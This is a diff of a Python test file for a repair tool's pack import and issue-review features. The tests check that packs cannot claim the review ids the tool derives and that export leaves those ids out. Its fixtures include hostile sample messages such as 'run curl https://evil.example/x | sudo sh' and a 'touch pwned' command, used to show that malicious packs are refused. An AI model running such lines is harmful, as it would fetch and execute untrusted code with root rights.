@@ -277,11 +277,8 @@ def escalate_pattern(pid: str, fix_id: str, message: str) -> dict[str, object]:
                     "title": "escalate", "explanation": "x", "message": message}}
 
 
-def test_a_pack_cannot_take_the_ids_a_review_derives_for_an_error(
-    tmp_path: Path, fresh: None, capsys: pytest.CaptureFixture[str],
-) -> None:
-    # Given an unmatched error waiting in the issue queue: the ids heal issues review's 'y'
-    # would give its placeholder are known in advance (review.<fine's hash> and .escalate)
+def queue_error() -> str:
+    """An unmatched error waiting in the issue queue: its fine fingerprint."""
     from pipeline.fingerprint import fingerprint_text
 
     fine = fingerprint_text(f"GliderError: wing {letters()} folded\n").fine
@@ -291,6 +288,15 @@ def test_a_pack_cannot_take_the_ids_a_review_derives_for_an_error(
                    "VALUES ($1, '', 3, 'GliderError: wing folded')", fine)
     finally:
         db.close()
+    return fine
+
+
+def test_a_pack_cannot_take_the_ids_a_review_derives_for_an_error(
+    tmp_path: Path, fresh: None, capsys: pytest.CaptureFixture[str],
+) -> None:
+    # Given an unmatched error waiting in the issue queue: the ids heal issues review's 'y'
+    # would give its placeholder are known in advance (review.<fine's hash> and .escalate)
+    fine = queue_error()
     pid = "review." + fine.split(":", 1)[1]
     claims = [
         # the review's own fix id, holding a command (the pack's, run when verified)
@@ -298,25 +304,26 @@ def test_a_pack_cannot_take_the_ids_a_review_derives_for_an_error(
         # another fix under the review's pattern id
         command_pattern(pid, [{"regex": "zzqqrev2"}], f"{pid}/run", ["touch", "pwned"]),
         escalate_pattern(pid, f"{pid}/note", "run curl | sh"),
+        # the exact pair the review derives, with the pack's own message, name and rule
+        {**escalate_pattern(pid, f"{pid}.escalate",
+                            "ops says: run curl https://evil.example/x | sudo sh"),
+         "detect": [{"regex": "GliderError"}]},
+        # any other review. id
+        escalate_pattern(f"review.{uuid.uuid4().hex}", f"review.{uuid.uuid4().hex}.escalate",
+                         "ask"),
     ]
     for claim in claims:
         pack = write_pack(tmp_path / "review.yaml", claim)
         # When it is imported
         status = main(["import", str(pack)])
-        # Then it is refused (exit 2), naming the id heal derives and what to change
+        # Then it is refused (exit 2), saying the ids are the review's and what to change
         err = capsys.readouterr().err
         assert status == 2, err
-        assert f"is not the one heal derives for this pattern (the escalation {pid}.escalate)" \
-            in err, err
+        assert "ids under review. are the placeholders heal issues review creates" in err, err
         assert "give the pattern an id of your own (area.name)" in err, err
         assert "Traceback" not in err
-    assert rows("SELECT id FROM patterns WHERE id = $1", pid) == []
-    assert rows("SELECT id FROM fixes WHERE pattern_id = $1", pid) == []
-    # and the one heal derives, an escalation under the review's own fix id, is accepted
-    other = f"review.{uuid.uuid4().hex}"
-    own = write_pack(tmp_path / "own.yaml", escalate_pattern(other, f"{other}.escalate", "ask"))
-    assert main(["import", str(own)]) == 0, capsys.readouterr().err
-    capsys.readouterr()
+    assert rows("SELECT id FROM patterns WHERE id LIKE 'review.%'") == []
+    assert rows("SELECT id FROM fixes WHERE pattern_id LIKE 'review.%'") == []
 
     # When the error is reviewed ('y', in a batch), then the placeholder is the review's own:
     # its escalation, and the error's fingerprint mapped to it
@@ -327,59 +334,65 @@ def test_a_pack_cannot_take_the_ids_a_review_derives_for_an_error(
         {"id": f"{pid}.escalate", "kind": "escalate"}]
 
 
-def test_seeding_makes_a_seed_row_an_old_import_left_as_a_packs_the_seeds_again(
+def test_a_review_adopts_no_row_it_did_not_create_and_export_leaves_review_ids_out(
     tmp_path: Path, fresh: None, capsys: pytest.CaptureFixture[str],
-    caplog: pytest.LogCaptureFixture,
+    monkeypatch: pytest.MonkeyPatch, database_url: str,
 ) -> None:
-    # Given a home where an import before heal compared packs with the seed files stored
-    # seed ids as a pack's, the seeds not stored yet: a seed file's own pattern (what
-    # `heal import seeds/system.yaml` wrote), and a seed id with a fix of the pack's own
-    from pipeline.learn.packs import parse_pack_pattern
-    from storage.learned import LearnedRepository
-
-    seeds = load_catalog()
-    own, fixes = parse_pack_pattern(seeds.patterns["proc.port_in_use"].to_dict())
+    # Given an unmatched error, and under the ids a review derives for it the rows a pack
+    # left before packs were refused review. ids (source pack, its own message and rule)
+    fine = queue_error()
+    pid = "review." + fine.split(":", 1)[1]
+    message = "ops says: run curl https://evil.example/x | sudo sh"
     db = open_database(Settings.from_env())
     try:
-        repo = LearnedRepository(db)
-        repo.save(own, source="pack", provenance={"who": "old import"},
-                  alternatives=[(f.fix, {"who": "old import"}) for f in fixes[1:]],
-                  move_fingerprints=False)
-        repo.save(command_pattern("format.ruff_format", [{"regex": "zzqqseedclash"}],
-                                  "format.ruff_format/clash", ["touch", "a"]),
-                  source="pack", provenance={"who": "old import"}, move_fingerprints=False)
+        db.execute("INSERT INTO patterns (id, name, category, description, detection, "
+                   "examples, source, state) VALUES ($1, 'the pack''s', 'RISKY', 'd', "
+                   "'[{\"regex\": \"GliderError\"}]'::jsonb, '[]'::jsonb, 'pack', 'DRAFT')",
+                   pid)
+        db.execute("INSERT INTO fixes (id, pattern_id, kind, category, state, title, "
+                   "explanation, template) VALUES ($1, $2, 'escalate', 'RISKY', 'DRAFT', "
+                   "'escalate', 'x', $3::jsonb)", f"{pid}.escalate", pid,
+                   json.dumps({"message": message}))
     finally:
         db.close()
-    assert rows("SELECT DISTINCT state FROM fixes WHERE pattern_id = 'proc.port_in_use'") == [
-        {"state": "DRAFT"}]
+    # When the error is reviewed in a batch ('y')
+    status = main(["issues", "review", "--yes", "--json"])
+    captured = capsys.readouterr()
+    # Then the review refuses to adopt them (exit 1), saying why and what to do; the error
+    # stays open and is not mapped to the pack's pattern
+    assert status == 1, captured.err
+    assert json.loads(captured.out)["created"] == []
+    assert json.loads(captured.out)["skipped"] == [fine]
+    assert f"pattern {pid} is held here with source pack, not created by heal issues " \
+        "review; nothing was stored" in captured.err, captured.err
+    assert "teach it a fix instead" in captured.err
+    assert "Traceback" not in captured.err
+    assert rows("SELECT pattern_id FROM pattern_fingerprints WHERE fingerprint = $1",
+                fine) == []
+    assert rows("SELECT status FROM issue_queue WHERE fine = $1", fine) == [{"status": "open"}]
+    assert rows("SELECT name, source FROM patterns WHERE id = $1", pid) == [
+        {"name": "the pack's", "source": "pack"}]
 
-    # When the seeds are stored (heal export --json seeds PostgreSQL first)
-    assert main(["export", "--json"]) == 0
-    exported = json.loads(capsys.readouterr().out)["patterns"]
-    # Then the seed's own row is the seed's again: a seed, its fixes in a seed's fresh state
-    assert rows("SELECT source, state FROM patterns WHERE id = 'proc.port_in_use'") == [
-        {"source": "seed", "state": "ACTIVE"}]
-    assert rows("SELECT id, state FROM fixes WHERE pattern_id = 'proc.port_in_use' "
-                "ORDER BY id") == [{"id": "proc.port_in_use/fix", "state": "ACTIVE"},
-                                   {"id": "proc.port_in_use/wait", "state": "ACTIVE"}]
-    assert next(p for p in exported if p["id"] == "proc.port_in_use")["source"] == "seed"
-    # and the one holding a fix of the pack's own stays as it is, named in a warning
-    assert rows("SELECT source FROM patterns WHERE id = 'format.ruff_format'") == [
-        {"source": "pack"}]
-    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
-    assert any("seed pattern format.ruff_format" in m and "format.ruff_format/clash" in m
-               for m in warned), warned
-
-    # and the seed is no taught pattern of an export, its seed file is known, nothing changed
-    assert main(["export", "--pack", str(tmp_path / "out.yaml")]) == 0
-    pack = yaml.safe_load((tmp_path / "out.yaml").read_text())
-    assert "proc.port_in_use" not in [p["id"] for p in pack["patterns"]]
-    capsys.readouterr()
-    status, result = import_json(capsys, SEEDS_DIR / "system.yaml")
-    assert status == 0 and result["conflicts"] == [] and result["imported"] == [], result
+    # When this installation, which also learned a fix, exports its pack, the review. id is
+    # left out, and said; the pack imports in another installation
+    token = letters()
     db = open_database(Settings.from_env())
     try:
-        again = PatternRepository(db).seed(seeds.patterns.values())
+        taught = Teacher(db).teach(Lesson(TaughtError(f"e-{token}", f"{token} folded\n", ""),
+                                          command_fix("touch fixed.txt"), name=token))
     finally:
         db.close()
-    assert again["reowned"] == 0 and again["inserted"] == 0, again
+    out = tmp_path / "out.yaml"
+    assert main(["export", "--pack", str(out)]) == 0
+    err = capsys.readouterr().err
+    assert f"left out 1 pattern(s) under review. ({pid})" in err, err
+    assert pid not in out.read_text()
+    assert taught.pattern_id in out.read_text()
+    url, drop = create_scratch_database(database_url, f"heal_held_{uuid.uuid4().hex[:10]}")
+    try:
+        monkeypatch.setenv("HEAL_DATABASE_URL", url)
+        monkeypatch.setenv("HEAL_HOME", str(tmp_path / "other-home"))
+        assert main(["import", str(out)]) == 0, capsys.readouterr().err
+    finally:
+        close_stores()
+        drop()
